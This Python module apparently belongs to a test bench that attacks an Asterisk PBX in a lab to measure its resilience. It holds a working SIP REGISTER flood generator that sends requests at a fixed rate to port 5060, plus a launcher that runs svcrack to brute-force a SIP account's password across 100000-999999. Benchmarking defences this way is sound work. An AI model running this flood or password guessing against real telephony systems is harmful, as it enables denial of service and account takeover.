"""The attacks, each from an address of its own: svcrack, and a flood of REGISTER for accounts that do not exist.

The flood's sender does not care whether anybody answers, as a flood does, and keeps its rate to the packet:

    python -m bench.race.attack SOURCE PBX RATE SECONDS
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

from tests.asterisk.network import end

TREE = Path(__file__).parents[2]

REQUEST = (
    "REGISTER sip:{pbx} SIP/2.0\r\nVia: SIP/2.0/UDP {me}:{port};branch=z9hG4bK{run}{{0:x}};rport\r\n"
    "Call-ID: {run}{{0:x}}\r\nCSeq: 1 REGISTER\r\nFrom: <sip:{{1}}@{pbx}>;tag={run}{{0:x}}\r\nTo: <sip:{{1}}@{pbx}>\r\n"
    "Contact: <sip:{{1}}@{me}:{port}>\r\nMax-Forwards: 70\r\nExpires: 60\r\nContent-Length: 0\r\n\r\n"
)
FIRST_ACCOUNT = 200_000


@dataclass(frozen=True)
class Attack:
    """An attack: its name, requests a second (None: svcrack), seconds it lasts at most."""

    name: str
    rate: int | None
    seconds: float
    pause: float = 0.005  # how long svcrack waits for an answer; its own default
    load: bool = False  # it lasts to the end, and what it costs is measured
    idle: float = 2.0  # seconds without an arrival after which it is over

    @property
    def guesses(self):
        """Tell whether the attacker answers challenges."""
        return self.rate is None

    def start(self, attacker, pbx, account):
        """Start it on a host, under the host's address; svcrack guesses at the account."""
        if self.rate is None:
            command = [
                "svcrack",
                "-t",
                str(self.pause),
                "-u",
                account,
                "-r",
                "100000-999999",
                "-b",
                attacker.address,
                pbx.address,
            ]
        else:
            command = [sys.executable, "-m", "bench.race.attack", attacker.address, pbx.address]
            command += [str(self.rate), str(self.seconds)]
        silent = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
        return subprocess.Popen(attacker.command(*command), cwd=TREE, **silent)

    def until_over(self, process, packets):
        """Wait for its end, or until nothing of it has arrived for some seconds (the log of packets stands still)."""
        deadline, size, grown = time.monotonic() + self.seconds, 0, None
        while process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
            now = time.monotonic()
            if (there := packets.stat().st_size) != size:
                size, grown = there, now
            if not self.load and grown is not None and now - grown > self.idle:
                break
        end(process)


def flood(source, pbx, rate, seconds):
    """Send at a rate, catching up after a pause, until the time is over."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.bind((source, 0))
        line.connect((pbx, 5060))
        line.setblocking(False)
        run = f"{time.time_ns() & 0xFFFFFFFF:08x}-"
        text = REQUEST.format(pbx=pbx, me=source, port=line.getsockname()[1], run=run)
        start, sent = time.monotonic(), 0
        while (passed := time.monotonic() - start) < seconds:
            for number in range(sent, int(passed * rate) + 1):
                _send(line, text.format(number, FIRST_ACCOUNT + number).encode())
                sent = number + 1
            time.sleep(max(0.0, start + sent / rate - time.monotonic()))
    return sent


def _send(line, message):
    with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
        line.send(message)


if __name__ == "__main__":
    flood(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
